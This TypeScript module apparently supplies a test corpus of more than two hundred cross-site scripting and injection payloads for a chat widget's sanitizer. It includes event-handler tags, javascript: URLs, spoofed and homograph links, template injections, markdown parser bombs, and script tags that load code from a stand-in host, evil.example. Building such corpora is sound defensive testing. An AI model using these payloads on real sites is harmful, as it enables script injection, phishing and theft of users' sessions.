/**
 * What somebody would write who wants a chat to run it: more than two hundred payloads, and the way to tell whether one of
 * them did anything. Each would leave a trace of its own: a changed title, a request, a dialog, a violation of the policy.
 */

/** Runs in each payload that can run anything. */
const RUN = "document.title='owned'";

const TAGS = ["img", "svg", "video", "audio", "iframe", "object", "embed", "input", "body", "details", "marquee", "select", "textarea", "math", "style", "link", "form", "isindex", "x-tag", "a"];
const HANDLERS = ["onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter"];

const ELEMENTS = TAGS.flatMap((tag) => HANDLERS.slice(0, 5).map((handler) => `<${tag} src=x autofocus open ${handler}="${RUN}">`));

const SCHEMES = [
  "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\u0001javascript:", "javascript\u200b:", "vbscript:", "data:text/html,", "data:text/html;base64,",
  "data:image/svg+xml,", "blob:", "file:///", "filesystem:", "view-source:", "feed:javascript:", "jar:", "about:blank#", "intent:", "ms-appx:",
];

const ADDRESSES = [
  ...SCHEMES.map((scheme) => `${scheme}${RUN}`),
  ...SCHEMES.map((scheme) => `[free money](${scheme}${RUN})`),
  "https://reedandbow.example@evil.example/", "https://reedandbow.example:secret@evil.example/login", "https://evil.example\\@reedandbow.example/",
  "https://rееdandbow.example/", "https://reedandbow.example/\u202Egnp.exe", "https://\u0000evil.example/", "https:evil.example", "https:///evil.example",
  "http://[::1]:80/", "http://0x7f000001/", "https://evil.example/%0d%0aSet-Cookie:a=b", "https://evil.example/?q=<script>alert(1)</script>",
  "[https://reedandbow.example](https://evil.example/)", '[click](https://evil.example/" onmouseover="alert(1))', "[a](https://evil.example/)[b](javascript:alert(1))",
  'https://evil.example/"onmouseover="alert(1)', "https://evil.example/'><script>alert(1)</script>", "https://evil.example/`${alert(1)}`", "https://evil.example/javascript:alert(1)",
];

const MARKUP = [
  `<script>${RUN}</script>`, `<ScRiPt>${RUN}</sCrIpT>`, `<script src=//evil.example/x.js></script>`, `<script type=module>import("//evil.example")</script>`,
  `</textarea><script>${RUN}</script>`, `</div></div><script>${RUN}</script>`, `<!--><script>${RUN}</script>-->`, `<![CDATA[<script>${RUN}</script>]]>`, `<svg><script>${RUN}</script></svg>`,
  `<svg><animate attributeName=href values=javascript:${RUN} /><a id=x><text y=20>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg onload=${RUN}>"></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`, `<template><script>${RUN}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`, `<iframe src="javascript:parent.${RUN}"></iframe>`, `<object data="javascript:${RUN}">`, `<embed src="javascript:${RUN}">`,
  `<form action="javascript:${RUN}"><button>x</button></form>`, `<button formaction="javascript:${RUN}">x</button>`, `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`, `<base href="//evil.example/">`,
  `<link rel=stylesheet href=//evil.example/x.css>`, `<style>*{display:none!important}</style>`, `<style>@import "//evil.example/x.css"</style>`, `<div style="background:url(//evil.example/x.png)">`, `<p style="position:fixed;inset:0">`,
  `<a href="javascript:${RUN}">x</a>`, `<a href="&#106;avascript:${RUN}">x</a>`, `<a href=" javascript:${RUN}">x</a>`, `<area href="javascript:${RUN}">`, `<img srcset="x 1x" onerror=${RUN}>`, `<img src=x onerror="&#100;ocument.title=1">`,
  `<input onfocus=${RUN} autofocus>`, `<details open ontoggle=${RUN}>`, `<video><source onerror=${RUN}></video>`, `<slot name=x></slot>`, `<chin-wag opened endpoint="//evil.example"></chin-wag>`, `<img id=__proto__ name=constructor>`, `<a id=chinwag><a id=chinwag name=open>`,
  "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "\\u003cscript\\u003ealert(1)", "%3Cscript%3Ealert(1)%3C/script%3E", "\uFF1Cscript\uFF1Ealert(1)", "<\u0000script>alert(1)</script>",
  "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{7*7}", "<%= 7*7 %>", "{{7*7}}", "[[${7*7}]]", "*{alert(1)}", "@{alert(1)}", "\"};alert(1);//", "';alert(1)//", "`;alert(1)//", "\u2028alert(1)\u2029", "</script><script>alert(1)</script>",
];

const MARKDOWN = [
  `**<img src=x onerror=${RUN}>**`, `\`<script>${RUN}</script>\``, `- <script>${RUN}</script>\n- <img src=x onerror=${RUN}>`, "```html\n<script>alert(1)</script>\n```", `1. [x](javascript:${RUN})`, `_<svg onload=${RUN}>_`,
  `![x](javascript:${RUN})`, `![x](https://evil.example/pixel.png)`, `<javascript:${RUN}>`, `[x]: javascript:${RUN}`, `[x](<javascript:${RUN}>)`, "**".repeat(2000), "*_".repeat(2000), "[".repeat(4000), "`".repeat(4001), "[a](".repeat(1000), "- ".repeat(2000), "1. ".repeat(1500), `${"*a ".repeat(1500)}`, `${"_a".repeat(2000)}`,
];

const ODD = [
  "\u202Eesrever\u202C", "\u2066isolated", "\u200B\u200C\u200D", "\uFEFF", "a\u0000b", "\u001b[31mred", "\ud800", "\udc00a", "\u{10FFFF}", "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a".repeat(20), "__proto__", "constructor", "toString", "hasOwnProperty", "{name}", "{count}", "%s%n", "null", "undefined", "NaN",
];

export const PAYLOADS: readonly string[] = [...new Set([...ELEMENTS, ...ADDRESSES, ...MARKUP, ...MARKDOWN, ...ODD])];
